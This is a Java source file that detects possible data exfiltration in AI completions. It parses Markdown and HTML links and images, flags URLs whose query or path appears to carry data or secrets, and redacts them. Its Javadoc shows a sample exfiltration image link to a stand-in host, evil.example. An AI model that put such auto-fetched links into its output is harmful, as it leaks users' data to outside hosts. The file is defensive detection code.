package dev.loupe.dimension.security;

import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.function.Predicate;

/**
 * Finds the links and images in a completion that could carry data out: Markdown images
 * ({@code ![x](https://evil.example/p.png?d=...)}, fetched by the renderer without a click),
 * Markdown links, reference definitions and HTML {@code <img>}/{@code <a>}. A URL "carries data"
 * when its query has a long value, its path a long encoded segment, or it holds personal data or
 * a secret.
 */
final class ExfiltrationLinks {
  /** One link or image found. */
  record Link(boolean image, String url, String host, int start, int end, boolean carriesData, boolean sensitive) {}

  private static final int LONG_VALUE = 12;
  private static final int LONG_SEGMENT = 32;

  private ExfiltrationLinks() {}

  static List<Link> find(String text) {
    return find(text, host -> false);
  }

  /** The links whose host is not {@code allowed}; an allowed link is not read further (no data checks). */
  static List<Link> find(String text, Predicate<String> allowed) {
    if (text == null || text.isEmpty()) return List.of();
    List<Link> out = new ArrayList<>(0);
    int from = 0;
    while (true) {
      int at = text.indexOf("](", from);
      if (at < 0) break;
      from = at + 2;
      int open = text.lastIndexOf('[', at);
      if (open < 0 || at - open > 500) continue;
      boolean image = open > 0 && text.charAt(open - 1) == '!';
      int urlEnd = urlEnd(text, at + 2, ')');
      add(out, image, text, image ? open - 1 : open, at + 2, urlEnd, allowed);
    }
    for (String tag : new String[] {"<img", "<IMG", "<a ", "<A "}) {
      from = 0;
      while (true) {
        int at = text.indexOf(tag, from);
        if (at < 0) break;
        from = at + tag.length();
        int close = text.indexOf('>', at);
        if (close < 0) close = Math.min(text.length(), at + 2000);
        String attr = tag.length() == 4 ? "src=" : "href=";
        int a = indexOfIgnoreCase(text, attr, at, close);
        if (a < 0) continue;
        int s = a + attr.length();
        char q = s < text.length() ? text.charAt(s) : ' ';
        if (q == '"' || q == '\'') s++;
        int e = urlEnd(text, s, q == '"' || q == '\'' ? q : ' ');
        add(out, tag.length() == 4, text, at, s, Math.min(e, close), allowed);
      }
    }
    from = 0;
    while (true) {
      int at = text.indexOf("]:", from);
      if (at < 0) break;
      from = at + 2;
      int open = text.lastIndexOf('[', at);
      int lineStart = text.lastIndexOf('\n', at) + 1;
      if (open != lineStart) continue;
      int s = at + 2;
      while (s < text.length() && text.charAt(s) == ' ') s++;
      add(out, false, text, open, s, urlEnd(text, s, ' '), allowed);
    }
    return out;
  }

  private static void add(List<Link> out, boolean image, String text, int start, int urlStart, int urlEnd,
      Predicate<String> allowed) {
    if (urlEnd <= urlStart) return;
    String url = text.substring(urlStart, urlEnd).strip();
    if (url.startsWith("<") && url.endsWith(">")) url = url.substring(1, url.length() - 1);
    int space = url.indexOf(' ');
    if (space > 0) url = url.substring(0, space); // [x](url "title")
    String host = host(url);
    if (host == null || allowed.test(host)) return;
    boolean sensitive = !SensitiveDataDetector.standard().find(url).isEmpty();
    out.add(new Link(image, url, host, start, Math.min(text.length(), urlEnd + 1), sensitive || carriesData(url), sensitive));
  }

  private static int urlEnd(String text, int from, char close) {
    int i = from;
    int depth = 0;
    while (i < text.length() && i - from < 4000) {
      char c = text.charAt(i);
      if (c == '\n' || c == close && depth == 0) break;
      if (c == '(') depth++;
      if (c == ')') depth--;
      if (close == ' ' && Character.isWhitespace(c)) break;
      i++;
    }
    return i;
  }

  /** The host of an absolute URL, or of a scheme-less one that starts with a dotted name; else null. */
  static String host(String url) {
    String u = url;
    int scheme = u.indexOf("://");
    if (scheme > 0 && scheme < 10) {
      String s = u.substring(0, scheme).toLowerCase(Locale.ROOT);
      if (!s.equals("http") && !s.equals("https")) return null;
      u = u.substring(scheme + 3);
    } else if (u.startsWith("//")) {
      u = u.substring(2);
    } else if (u.startsWith("/") || u.startsWith("#") || u.startsWith(".") || u.startsWith("mailto:")) {
      return null;
    }
    int end = 0;
    while (end < u.length() && "/?#".indexOf(u.charAt(end)) < 0) end++;
    String authority = u.substring(0, end);
    int at = authority.lastIndexOf('@');
    if (at >= 0) authority = authority.substring(at + 1);
    int colon = authority.indexOf(':');
    if (colon >= 0) authority = authority.substring(0, colon);
    authority = authority.toLowerCase(Locale.ROOT);
    if (authority.indexOf('.') <= 0 || authority.endsWith(".")) return null;
    for (int k = 0; k < authority.length(); k++) {
      char c = authority.charAt(k);
      if (!(Character.isLetterOrDigit(c) || c == '.' || c == '-')) return null;
    }
    return authority;
  }

  static boolean carriesData(String url) {
    int q = url.indexOf('?');
    int hash = url.indexOf('#');
    if (q >= 0) {
      String query = url.substring(q + 1, hash > q ? hash : url.length());
      if (query.length() >= 2 * LONG_VALUE) return true;
      for (String pair : query.split("[&;]")) {
        int eq = pair.indexOf('=');
        String value = eq >= 0 ? pair.substring(eq + 1) : pair;
        if (value.length() >= LONG_VALUE) return true;
      }
    }
    String path = url.substring(0, q >= 0 ? q : hash >= 0 ? hash : url.length());
    for (String segment : path.split("/")) {
      if (segment.length() >= LONG_SEGMENT && segment.indexOf('.') < 0 && segment.indexOf('-') < 0) return true;
    }
    return false;
  }

  /** The URL with query values and long path segments replaced, for a redacted finding. */
  static String redactedUrl(String url) {
    int q = url.indexOf('?');
    StringBuilder out = new StringBuilder(url.length());
    String path = q >= 0 ? url.substring(0, q) : url;
    String[] segments = path.split("/", -1);
    for (int k = 0; k < segments.length; k++) {
      if (k > 0) out.append('/');
      out.append(segments[k].length() >= LONG_SEGMENT ? "<DATA>" : segments[k]);
    }
    if (q >= 0) {
      out.append('?');
      String[] pairs = url.substring(q + 1).split("&", -1);
      for (int k = 0; k < pairs.length; k++) {
        if (k > 0) out.append('&');
        int eq = pairs[k].indexOf('=');
        out.append(eq >= 0 ? pairs[k].substring(0, Math.min(eq, 40)) + "=<DATA>" : "<DATA>");
      }
    }
    return out.toString();
  }

  private static int indexOfIgnoreCase(String text, String needle, int from, int to) {
    for (int i = from; i + needle.length() <= to; i++) {
      if (text.regionMatches(true, i, needle, 0, needle.length())) return i;
    }
    return -1;
  }
}
